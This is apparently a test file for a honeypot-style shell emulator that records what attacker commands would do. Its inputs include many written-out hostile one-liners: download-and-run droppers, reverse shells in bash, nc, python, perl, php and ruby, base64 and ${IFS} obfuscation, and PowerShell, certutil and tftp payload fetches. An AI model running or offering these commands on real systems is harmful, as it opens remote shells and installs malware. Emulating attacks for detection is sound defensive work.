import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { RecordingEndpoint, ScriptedEndpoint, type NetworkEndpoint } from '../../../src/emulator/behaviour/network-endpoint.ts';
import type { DummyObservation } from '../../../src/emulator/services/observation.ts';
import { runShellCommand, type ShellContext } from '../../../src/emulator/shell/index.ts';
import { seededRandom } from '../../helpers/random.ts';

type TestContext = ShellContext & { observations: DummyObservation[] };

function shellContext(network: NetworkEndpoint = new RecordingEndpoint(), windows = false): TestContext {
  const observations: DummyObservation[] = [];
  const environment = windows
    ? new Map([['COMPUTERNAME', 'DUMMY'], ['USERNAME', 'SYSTEM'], ['TEMP', 'C:\\WINDOWS\\TEMP']])
    : new Map([['USER', 'www-data'], ['HOME', '/var/www'], ['HOSTNAME', 'dummy']]);
  return { network, files: new Map(), environment, origin: 'test', observe: (observation) => observations.push(observation), now: () => 0, observations };
}

function execs(context: TestContext): string[] {
  return context.observations.flatMap((observation) => (observation.kind === 'exec' ? [`${observation.shell}:${observation.command}`] : []));
}

function httpAnswer(body: string): Uint8Array {
  return new TextEncoder().encode(`HTTP/1.1 200 OK\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
}

function sentText(network: RecordingEndpoint): string[] {
  return network.transcript.sent.map((sent) => Buffer.from(sent.bytes).toString('latin1'));
}

describe('runShellCommand sh', () => {
  it('wget saves the body, chmod and run: the dropped script runs its own commands', () => {
    const network = new ScriptedEndpoint({ incoming: [httpAnswer('#!/bin/sh\nnc 10.2.2.2 4444 -e /bin/sh\n')] });
    const context = shellContext(network);
    runShellCommand('sh', 'cd /tmp; wget http://dl.example/a.sh; chmod +x a.sh; ./a.sh', context);
    assert.deepEqual(network.transcript.resolved, ['dl.example']);
    assert.match(sentText(network)[0]!, /^GET \/a\.sh HTTP\/1\.1\r\nHost: dl\.example\r\n/);
    assert.ok(context.files.has('/tmp/a.sh'));
    assert.deepEqual(network.transcript.connects.map((connect) => `${connect.address}:${connect.port}`), ['10.13.37.1:80', '10.2.2.2:4444']);
    assert.deepEqual(execs(context), ['sh:cd /tmp', 'sh:wget http://dl.example/a.sh', 'sh:chmod +x a.sh', 'sh:./a.sh', 'sh:nc 10.2.2.2 4444 -e /bin/sh', 'process:/bin/sh (stdio on 10.2.2.2:4444)']);
    assert.ok(context.observations.some((observation) => observation.kind === 'file' && observation.path === '/tmp/a.sh' && observation.sha256.length === 64));
  });

  it('a dropped binary is observed as a process', () => {
    const network = new ScriptedEndpoint({ incoming: [httpAnswer('\x7fELF\x01\x01\x01\x00binary')] });
    const context = shellContext(network);
    runShellCommand('sh', 'wget -O /tmp/m http://1.2.3.4/m && /tmp/m scan', context);
    assert.ok(execs(context).includes('process:/tmp/m scan'));
  });

  it('bash -i >& /dev/tcp/h/p 0>&1 connects; commands arriving on the socket run', () => {
    const network = new ScriptedEndpoint({ incoming: [new TextEncoder().encode('id\n')] });
    const context = shellContext(network);
    runShellCommand('sh', 'bash -i >& /dev/tcp/10.1.2.3/4444 0>&1', context);
    assert.deepEqual(network.transcript.connects.map((connect) => [connect.address, connect.port]), [['10.1.2.3', 4444]]);
    assert.ok(execs(context).includes('sh:id'));
    assert.match(sentText(network).join(''), /uid=33\(www-data\)/);
  });

  it('echo with redirection creates and appends files; cat reads them', () => {
    const context = shellContext();
    const output = runShellCommand('sh', "echo 'a b' > /tmp/x; echo c >> /tmp/x; cat /tmp/x", context);
    assert.equal(output, 'a b\nc\n');
    assert.equal(Buffer.from(context.files.get('/tmp/x')!).toString(), 'a b\nc\n');
  });

  it('${IFS}, brace expansion, base64 | bash and $(…) reach the hidden command', () => {
    for (const line of [
      '${IFS}wget${IFS}http://6.6.6.6/y',
      "bash -c '{echo,d2dldCBodHRwOi8vNi42LjYuNi95}|{base64,-d}|{bash,-i}'",
      'X=$(echo d2dldCBodHRwOi8vNi42LjYuNi95 | base64 -d); eval $X',
      '`echo wget` http://6.6.6.6/y',
      "w$'\\x67'et http://6.6.6.6/y",
      'a=wg;b=et;$a$b http://6.6.6.6/y',
    ]) {
      const network = new RecordingEndpoint();
      runShellCommand('sh', line, shellContext(network));
      assert.deepEqual(network.transcript.connects.map((connect) => `${connect.address}:${connect.port}`), ['6.6.6.6:80'], line);
      assert.match(sentText(network)[0]!, /^GET \/y /, line);
    }
  });

  it('&& and || follow exit statuses; unknown commands print the shell’s not-found text', () => {
    const output = runShellCommand('sh', 'nosuch && echo no || echo yes; false || echo second', shellContext());
    assert.equal(output, 'yes\nsecond\nsh: nosuch: not found\n');
  });

  it('ping sends ICMP echo requests on a raw socket', () => {
    const network = new RecordingEndpoint();
    runShellCommand('sh', 'ping -c 3 9.9.9.9', shellContext(network));
    const echoes = network.transcript.sent.filter((sent) => sent.address === '9.9.9.9');
    assert.equal(echoes.length, 3);
    assert.ok(echoes.every((sent) => sent.bytes[0] === 8 && sent.port === 0));
  });

  it('busybox tftp -g -r sends a TFTP read request and saves the blocks', () => {
    const data = Uint8Array.from([0, 3, 0, 1, ...new TextEncoder().encode('payload')]);
    const network = new ScriptedEndpoint({ incoming: [data] });
    const context = shellContext(network);
    runShellCommand('sh', 'cd /tmp && busybox tftp -g -r m.arm 9.8.7.6', context);
    assert.equal(Buffer.from(network.transcript.sent[0]!.bytes).toString('latin1'), '\x00\x01m.arm\x00octet\x00');
    assert.equal(network.transcript.sent[0]!.port, 69);
    assert.equal(Buffer.from(context.files.get('/tmp/m.arm')!).toString(), 'payload');
  });

  it('tftp-hpa `tftp host -c get file` asks that host, not a name "-c"', () => {
    const data = Uint8Array.from([0, 3, 0, 1, ...new TextEncoder().encode('payload')]);
    const network = new ScriptedEndpoint({ incoming: [data] });
    const context = shellContext(network);
    runShellCommand('sh', 'cd /tmp; tftp 9.8.7.6 -c get m.arm', context);
    assert.deepEqual(network.transcript.resolved, []);
    assert.equal(network.transcript.sent[0]!.address, '9.8.7.6');
    assert.equal(Buffer.from(context.files.get('/tmp/m.arm')!).toString(), 'payload');
  });

  it('curl | sh runs the fetched script', () => {
    const network = new ScriptedEndpoint({ incoming: [httpAnswer('ping -c 1 7.7.7.7\n')] });
    const context = shellContext(network);
    runShellCommand('sh', 'curl -fsSL http://x.example/i | sh', context);
    assert.ok(network.transcript.sent.some((sent) => sent.address === '7.7.7.7'));
  });

  it('python, perl, php and ruby reverse shells connect to their target', () => {
    const cases: [string, string][] = [
      ['python -c \'import socket,os;s=socket.socket();s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0)\'', '10.0.0.1:1234'],
      ['perl -e \'use Socket;$i="10.0.0.2";$p=4321;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){exec("/bin/sh -i");};\'', '10.0.0.2:4321'],
      ['php -r \'$sock=fsockopen("10.0.0.3",80);exec("/bin/sh -i <&3 >&3 2>&3");\'', '10.0.0.3:80'],
      ['ruby -rsocket -e\'f=TCPSocket.open("10.0.0.4",9001).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'', '10.0.0.4:9001'],
      ['nc -e /bin/sh 10.0.0.5 5555', '10.0.0.5:5555'],
      ['rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.6 1234 >/tmp/f', '10.0.0.6:1234'],
    ];
    for (const [line, target] of cases) {
      const network = new RecordingEndpoint();
      runShellCommand('sh', line, shellContext(network));
      assert.ok(network.transcript.connects.some((connect) => `${connect.address}:${connect.port}` === target), line);
    }
  });

  it('nc -l opens a listener (a listen observation)', () => {
    const context = shellContext();
    runShellCommand('sh', 'nc -lvp 5555 -e /bin/bash', context);
    assert.ok(context.observations.some((observation) => observation.kind === 'listen' && observation.port === 5555));
  });

  it('for loops run bounded; while loops run their body at most once', () => {
    const network = new RecordingEndpoint();
    const context = shellContext(network);
    runShellCommand('sh', 'for a in arm mips x86; do wget http://5.5.5.5/b.$a; done; while true; do ping -c 1 4.4.4.4; done', context);
    assert.equal(network.transcript.connects.length, 3);
    assert.equal(network.transcript.sent.filter((sent) => sent.address === '4.4.4.4').length, 1);
  });
});

describe('runShellCommand cmd', () => {
  it('echo > script, ftp -s:script, run the download', () => {
    const network = new RecordingEndpoint();
    const context = shellContext(network, true);
    runShellCommand('cmd', 'cmd /c echo open 1.2.3.4 21> s.txt & echo user a b>> s.txt & echo get x.exe>> s.txt & echo bye>> s.txt & ftp -n -s:s.txt & x.exe', context);
    assert.equal(Buffer.from(context.files.get('C:\\WINDOWS\\system32\\s.txt')!).toString(), 'open 1.2.3.4 21\r\nuser a b \r\nget x.exe \r\nbye \r\n', 'echo keeps the space before &, as cmd does');
    assert.deepEqual(network.transcript.connects.map((connect) => `${connect.address}:${connect.port}`), ['1.2.3.4:21']);
    assert.ok(sentText(network).includes('USER a\r\n'));
    assert.ok(sentText(network).includes('RETR x.exe\r\n'));
  });

  it('tftp -i host GET file, then start runs the dropped executable', () => {
    const data = Uint8Array.from([0, 3, 0, 1, 0x4d, 0x5a, 0x90]);
    const network = new ScriptedEndpoint({ incoming: [data] });
    const context = shellContext(network, true);
    runShellCommand('cmd', 'tftp -i 4.3.2.1 GET msblast.exe & start msblast.exe', context);
    assert.equal(network.transcript.sent[0]!.address, '4.3.2.1');
    assert.equal(network.transcript.sent[0]!.port, 69);
    assert.ok(execs(context).includes('process:C:\\WINDOWS\\system32\\msblast.exe'));
  });

  it('powershell IEX DownloadString and -enc fetch over HTTP', () => {
    const encoded = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://b.example/p.ps1')", 'utf16le').toString('base64');
    for (const line of [`powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://b.example/p.ps1')"`, `powershell -enc ${encoded}`]) {
      const network = new RecordingEndpoint();
      runShellCommand('cmd', line, shellContext(network, true));
      assert.deepEqual(network.transcript.resolved, ['b.example'], line);
      assert.match(sentText(network)[0]!, /^GET \/p\.ps1 HTTP\/1\.1/);
    }
  });

  it('%VAR%, ^ escapes, && and || and the not-recognized text', () => {
    const output = runShellCommand('cmd', 'echo %COMPUTERNAME% ^& x && nosuch || echo fallback', shellContext(undefined, true));
    assert.equal(output, "DUMMY & x \r\nfallback\r\n'nosuch' is not recognized as an internal or external command,\r\noperable program or batch file.\r\n");
  });

  it('ping -n sends that many echo requests', () => {
    const network = new RecordingEndpoint();
    runShellCommand('cmd', 'ping -n 2 8.8.4.4', shellContext(network, true));
    assert.equal(network.transcript.sent.filter((sent) => sent.address === '8.8.4.4').length, 2);
  });

  it('certutil and bitsadmin download to the named file', () => {
    const network = new ScriptedEndpoint({ incoming: [httpAnswer('MZ1'), httpAnswer('MZ2')] });
    const context = shellContext(network, true);
    runShellCommand('cmd', 'certutil -urlcache -split -f http://c.example/a.exe C:\\a.exe & bitsadmin /transfer j /download http://c.example/b.exe C:\\b.exe', context);
    assert.equal(Buffer.from(context.files.get('C:\\a.exe')!).toString(), 'MZ1');
    assert.equal(Buffer.from(context.files.get('C:\\b.exe')!).toString(), 'MZ2');
  });
});

describe('runShellCommand: hostile input is bounded', () => {
  it('long, deeply nested and self-feeding lines end quickly with bounded output', () => {
    const lines: [('sh' | 'cmd'), string][] = [
      ['sh', 'echo a;'.repeat(10_000)],
      ['sh', '$('.repeat(2_000) + 'id' + ')'.repeat(2_000)],
      ['sh', 'sh -c "'.repeat(200) + 'id'],
      ['sh', 'echo ' + 'A'.repeat(200_000)],
      ['sh', 'echo "sh -c \\"sh x\\"" > x; sh x'],
      ['sh', 'for a in ' + 'x '.repeat(5_000) + '; do wget http://1.1.1.1/$a; done'],
      ['sh', "'unterminated \"quote `back $(sub ${var"],
      ['cmd', 'cmd /c '.repeat(500) + 'echo x'],
      ['cmd', '('.repeat(5_000) + 'echo x' + ')'.repeat(5_000)],
      ['sh', '('.repeat(5_000) + 'id' + ')'.repeat(5_000)],
      ['sh', '{ '.repeat(5_000) + 'id' + '; }'.repeat(5_000)],
      ['sh', 'if '.repeat(5_000) + 'id'],
      ['cmd', 'echo x & '.repeat(10_000)],
    ];
    for (const [kind, line] of lines) {
      const network = new RecordingEndpoint();
      const started = Date.now();
      const output = runShellCommand(kind, line, shellContext(network, kind === 'cmd'));
      assert.ok(Date.now() - started < 3_000, `bounded time: ${line.slice(0, 40)}`);
      assert.ok(output.length <= 65_536);
      assert.ok(network.transcript.connects.length <= 256);
    }
  });

  it('random bytes never throw', () => {
    const random = seededRandom(0x5eed);
    const alphabet = 'abcwget $(){};|&`\'"\\<>/0123456789-%^\n\t ${IFS}';
    for (let round = 0; round < 300; round++) {
      let line = '';
      const length = Math.floor(random() * 200);
      for (let index = 0; index < length; index++) line += alphabet[Math.floor(random() * alphabet.length)];
      runShellCommand(round % 2 === 0 ? 'sh' : 'cmd', line, shellContext(undefined, round % 2 === 1));
    }
  });
});
